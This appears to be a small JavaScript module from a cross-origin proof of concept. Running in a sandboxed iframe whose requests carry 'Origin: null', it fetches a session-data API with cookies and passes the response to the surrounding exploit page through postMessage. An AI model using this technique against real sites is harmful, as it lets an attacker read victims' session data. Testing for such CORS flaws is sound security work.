// Runs inside <iframe sandbox="allow-scripts">: an opaque origin, so its fetch says
// `Origin: null`. It hands what it read to the exploit page around it.

import { apiUrl, readWithCookies } from "./common.js";

const url = new URL(apiUrl("/api/session-data/", "include"));
url.searchParams.set("via", "sandboxed-iframe");
parent.postMessage({ origin: self.origin, session: await readWithCookies(url.href) }, "*");
